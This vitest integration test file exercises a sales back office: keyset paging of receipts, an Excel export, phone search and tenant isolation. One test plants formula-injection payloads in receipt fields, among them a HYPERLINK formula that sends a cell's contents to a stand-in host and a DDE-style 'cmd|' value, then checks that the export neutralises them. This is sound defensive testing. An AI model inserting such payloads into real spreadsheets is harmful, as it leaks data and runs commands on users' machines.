import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { and, eq, sql } from 'drizzle-orm';
import { receipts } from '@cartera/db/schema';
import { RECEIPT_STATUSES } from '@cartera/domain/sales';
import { useDemoApp } from '../../testing/demo-app';
import { COMERCIAL, SELLER, OTHER_TENANT } from '../../testing/demo-users';

/*
 * The sales back office (issue #14 §3, §5): the list's orders page by keyset without losing or
 * repeating a row; the Excel export holds exactly the filtered rows; phone search and the
 * contact lookup by phone; a seller sees only their own sales and another company none.
 */
const env = useDemoApp();

type Receipt = {
  id: string;
  ticketId: string;
  entryDate: string;
  saleDate: string | null;
  total: number;
  status: (typeof RECEIPT_STATUSES)[number];
  phone: string;
  seller: { id: string; name: string; lastname: string } | null;
  product: string | null;
  productLines: Array<{ name: string }>;
  cancelReason: string | null;
};

async function everyPage(email: string, input: Record<string, unknown>, limit: number) {
  const seen: Receipt[] = [];
  let cursor: string | null = null;
  for (let page = 0; page < 50; page += 1) {
    const result: { data: { items: unknown[]; nextCursor: string | null }; error?: unknown } =
      await env.call(email, 'receipt.list', { ...input, limit, cursor });
    expect(result.error).toBeUndefined();
    seen.push(...(result.data.items as Receipt[]));
    cursor = result.data.nextCursor;
    if (!cursor) return seen;
  }
  throw new Error('too many pages');
}

const keyOf: Record<string, (receipt: Receipt) => string | number> = {
  entryDate: (receipt) => receipt.entryDate,
  saleDate: (receipt) => receipt.saleDate ?? '0001-01-01',
  total: (receipt) => receipt.total,
  seller: (receipt) =>
    receipt.seller ? `${receipt.seller.name} ${receipt.seller.lastname}`.toLowerCase() : '',
  status: (receipt) => RECEIPT_STATUSES.indexOf(receipt.status) + 1,
};

async function download(email: string, query: string) {
  const response = await fetch(`${env.app.url}/api/receipt/excel?${query}`, {
    headers: { authorization: `Bearer ${await env.tokenOf(email)}` },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('spreadsheetml');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  const sheet = workbook.worksheets[0]!;
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return {
    total: Number(response.headers.get('x-total-count')),
    header: rows[0]!,
    rows: rows.slice(1),
  };
}

describe('lista de ventas: orden y páginas', () => {
  it('cada orden, ascendente y descendente, recorre todas las ventas por páginas sin repetir ni perder', async () => {
    const all = await everyPage(COMERCIAL, {}, 500);
    expect(all.length).toBeGreaterThan(200);
    for (const sort of Object.keys(keyOf)) {
      for (const order of ['asc', 'desc'] as const) {
        const paged = await everyPage(COMERCIAL, { sort, order }, 75);
        expect(paged.map((each) => each.id).sort()).toEqual(all.map((each) => each.id).sort());
        const key = keyOf[sort]!;
        for (let index = 1; index < paged.length; index += 1) {
          const [before, after] = [paged[index - 1]!, paged[index]!];
          const [a, b] = [key(before), key(after)];
          const ascending = order === 'asc' ? 1 : -1;
          const byKey = a < b ? -1 : a > b ? 1 : 0;
          const byId = before.id < after.id ? -1 : 1;
          // Text keys follow the database's collation; the page boundaries are what matter here.
          if (typeof a === 'number' || sort.endsWith('Date')) {
            expect((byKey || byId) * ascending, `${sort} ${order} at ${index}`).toBe(-1);
          }
        }
      }
    }
  });

  it('por defecto, la más nueva primero, y el cursor de id sigue valiendo en REST', async () => {
    const first = await env.rest<{ items: Receipt[]; nextCursor: string }>(
      COMERCIAL,
      'GET',
      '/api/receipt?limit=5',
    );
    expect(first.status).toBe(200);
    const ids = first.body.items.map((each) => each.id);
    expect([...ids].sort().reverse()).toEqual(ids);
    const next = await env.rest<{ items: Receipt[] }>(
      COMERCIAL,
      'GET',
      `/api/receipt?limit=5&cursor=${first.body.nextCursor}`,
    );
    expect(next.body.items[0]!.id < ids.at(-1)!).toBe(true);
    const sorted = await env.rest<{ items: Receipt[] }>(
      COMERCIAL,
      'GET',
      '/api/receipt?limit=5&sort=total&order=desc',
    );
    const totals = sorted.body.items.map((each) => each.total);
    expect([...totals].sort((a, b) => b - a)).toEqual(totals);
  });

  it('skip de REST (01 §7) deja fuera esas filas primero y no va con un cursor', async () => {
    type Page = { items: Receipt[]; nextCursor: string | null };
    const ten = await env.rest<Page>(COMERCIAL, 'GET', '/api/receipt?limit=10');
    const skipped = await env.rest<Page>(COMERCIAL, 'GET', '/api/receipt?limit=5&skip=5');
    expect(skipped.status).toBe(200);
    expect(skipped.body.items.length).toBeGreaterThan(0);
    expect(skipped.body.items.map((each) => each.id)).toEqual(
      ten.body.items.slice(5).map((each) => each.id),
    );
    const both = await env.rest<{ fieldErrors?: Record<string, string> }>(
      COMERCIAL,
      'GET',
      `/api/receipt?limit=5&skip=5&cursor=${ten.body.nextCursor}`,
    );
    expect(both.status).toBe(400);
    expect(JSON.stringify(both.body)).toContain('Usa skip o cursor, no los dos');
  });

  it('un cursor que no se lee es un error claro', async () => {
    const result = await env.call(COMERCIAL, 'receipt.list', { sort: 'total', cursor: 'basura' });
    expect(result.error?.data.domainCode).toBe('INVALID_REQUEST_BODY');
  });
});

describe('Excel de ventas', () => {
  it('trae exactamente las ventas filtradas, en su orden, con X-Total-Count', async () => {
    const seller = env.demo.users[SELLER]!;
    const filter = {
      status: ['sold', 'canceled'],
      sellerId: seller.id,
      sort: 'entryDate',
      order: 'asc',
    };
    const listed = await everyPage(COMERCIAL, filter, 500);
    expect(listed.length).toBeGreaterThan(0);
    const count = await env.call(COMERCIAL, 'receipt.count', filter);
    expect(count.data).toBe(listed.length);
    const file = await download(
      COMERCIAL,
      `status=sold,canceled&user=${seller.id}&sort=entryDate&order=asc`,
    );
    expect(file.total).toBe(listed.length);
    expect(file.header).toEqual([
      'Ticket',
      'Id de venta',
      'Fecha de ingreso',
      'Fecha de venta',
      'Teléfono',
      'Nombre',
      'Cedula',
      'Producto',
      'Precio',
      'Estado',
      'Vendedor',
      'Motivo de cancelación',
    ]);
    expect(file.rows.map((row) => row[0])).toEqual(listed.map((each) => each.ticketId));
    expect(new Set(file.rows.map((row) => row[9]))).toEqual(
      new Set(listed.map((each) => (each.status === 'sold' ? 'Vendida' : 'Cancelada'))),
    );
    expect(file.rows.every((row) => row[10] === 'Valentín Vendedor')).toBe(true);
    // Product (or the lines' names), total and cancel reason are computed by the export's SQL:
    // they must read as the list shows them.
    expect(file.rows.map((row) => [row[7], row[8], row[11] ?? ''])).toEqual(
      listed.map((each) => [
        each.product ?? each.productLines.map((line) => line.name).join(', '),
        String(each.total),
        each.status === 'canceled' ? (each.cancelReason ?? 'Sin razón especificada') : '',
      ]),
    );
    expect(listed.some((each) => each.productLines.length > 1)).toBe(true);
  });

  it('un texto que empieza como fórmula sale como texto (con comilla); números y fechas, igual', async () => {
    const seller = env.demo.users[SELLER]!;
    const [receipt] = await env.database.handle.db
      .select()
      .from(receipts)
      .where(and(eq(receipts.sellerId, seller.id), eq(receipts.kind, 'receipt')))
      .limit(1);
    const formula = '=HYPERLINK("http://malo.test/?d="&A1,"Ver")';
    const db = env.database.handle.db;
    await db
      .update(receipts)
      .set({ name: formula, govId: '@SUM(1+1)', product: '-2+3+cmd|x' })
      .where(eq(receipts.id, receipt!.id));
    try {
      const response = await fetch(`${env.app.url}/api/receipt/excel?user=${seller.id}`, {
        headers: { authorization: `Bearer ${await env.tokenOf(COMERCIAL)}` },
      });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await response.arrayBuffer());
      const sheet = workbook.worksheets[0]!;
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === receipt!.ticketId) found = row;
      });
      expect(found!.getCell(6).value).toBe(`'${formula}`);
      expect(found!.getCell(7).value).toBe("'@SUM(1+1)");
      expect(found!.getCell(8).value).toBe("'-2+3+cmd|x");
      expect(typeof found!.getCell(9).value).toBe('number');
      expect(found!.getCell(3).value).toBeInstanceOf(Date);
    } finally {
      await db
        .update(receipts)
        .set({ name: receipt!.name, govId: receipt!.govId, product: receipt!.product })
        .where(eq(receipts.id, receipt!.id));
    }
  });

  it('un vendedor descarga solo sus ventas; otra empresa ninguna de esta', async () => {
    const seller = env.demo.users[SELLER]!;
    const [own] = await env.database.handle.db
      .select({ count: sql<number>`count(*)::int` })
      .from(receipts)
      .where(
        and(
          eq(receipts.tenantId, seller.tenantId),
          eq(receipts.sellerId, seller.id),
          eq(receipts.kind, 'receipt'),
        ),
      );
    const mine = await download(SELLER, '');
    expect(mine.total).toBe(own!.count);
    expect(mine.rows).toHaveLength(own!.count);
    const listed = await everyPage(SELLER, {}, 500);
    expect(listed.every((each) => each.seller?.id === seller.id)).toBe(true);

    const demoTickets = new Set((await everyPage(COMERCIAL, {}, 500)).map((each) => each.ticketId));
    const foreign = await download(OTHER_TENANT, '');
    expect(foreign.rows.filter((row) => demoTickets.has(row[0]!))).toEqual([]);
    const get = await env.call(OTHER_TENANT, 'receipt.get', { id: listed[0]!.id });
    expect(get.error?.data.domainCode).toBe('RECEIPT_NOT_FOUND');
  });

  it('sin sesión no hay Excel', async () => {
    const response = await fetch(`${env.app.url}/api/receipt/excel`);
    expect(response.status).toBe(401);
  });
});

describe('búsqueda por teléfono y contacto por teléfono', () => {
  it('/phonesearch encuentra las ventas por parte del teléfono; menos de 3 dígitos es un error en español', async () => {
    const first = await env.call(COMERCIAL, 'receipt.list', { limit: 1 });
    const sample = first.data.items[0] as Receipt | undefined;
    const digits = sample!.phone.replace(/\D/g, '').slice(-6);
    const found = await env.rest<Receipt[]>(COMERCIAL, 'GET', `/api/phonesearch?phone=${digits}`);
    expect(found.status).toBe(200);
    expect(found.body.map((each) => each.id)).toContain(sample!.id);
    expect(found.body.every((each) => each.phone.replace(/\D/g, '').includes(digits))).toBe(true);
    const short = await env.call(COMERCIAL, 'receipt.phoneSearch', { phone: '09' });
    expect(short.error?.data.domainCode).toBe('INVALID_REQUEST_BODY');
    expect(JSON.stringify(short.error)).toContain('Escribe al menos 3 dígitos del teléfono');
    const seller = await env.call(SELLER, 'receipt.phoneSearch', { phone: digits });
    expect(seller.error?.data.domainCode).toBe('PERMISSION_DENIED');
  });

  it('el contacto de un teléfono sale por contact-access; otra empresa no lo ve', async () => {
    const contact = await env.phoneContactOf(SELLER);
    const phone = contact.phones[0]!;
    const national = `0${phone.replace(/^\+598/, '')}`;
    const found = await env.rest<{ id: string } | null>(
      COMERCIAL,
      'GET',
      `/api/comercial/sale/getContactByPhone?phone=${encodeURIComponent(national)}`,
    );
    expect(found.status).toBe(200);
    expect(found.body).toMatchObject({ id: contact!.id, phone });
    const none = await env.call(COMERCIAL, 'receipt.contactByPhone', { phone: '099 000 001' });
    expect(none.data).toBeNull();
    const foreign = await env.call(OTHER_TENANT, 'receipt.contactByPhone', { phone });
    expect(foreign.error?.data.domainCode).toBe('PERMISSION_DENIED');
  });
});
